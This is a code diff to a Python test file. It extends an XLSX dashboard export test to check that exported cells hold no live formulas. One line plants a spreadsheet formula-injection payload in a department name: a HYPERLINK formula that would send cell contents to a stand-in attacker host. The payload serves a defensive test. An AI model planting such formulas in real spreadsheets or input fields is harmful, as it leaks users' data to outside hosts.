@@ -281,13 +281,19 @@ def test_unknown_chart_or_state_is_a_404(client, auth, org_cycle):
     assert client.get(people).status_code == 404
 
 
-def test_xlsx_export_holds_the_charts_numbers(client, auth, org_cycle):
-    cycle, _departments = org_cycle
+def test_xlsx_export_holds_the_charts_numbers_and_no_live_formula(client, auth, db, org_cycle):
+    cycle, departments = org_cycle
+    departments["ops"].name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    db.commit()
     auth.login("hr@acme.example")
     response = client.get(f"/dashboards/organization/funnel.xlsx?cycle={cycle.id}")
     sheet = load_workbook(io.BytesIO(response.data)).active
     rows = [[c.value for c in row] for row in sheet.iter_rows()]
     assert ["Goal setting", 1] in [r[:2] for r in rows]
+    response = client.get(f"/dashboards/organization/states_by_department.xlsx?cycle={cycle.id}")
+    cells = [c for row in load_workbook(io.BytesIO(response.data)).active.iter_rows() for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    assert departments["ops"].name in {c.value for c in cells}  # shown as typed, as text
 
 
 def _statements(client, paths):
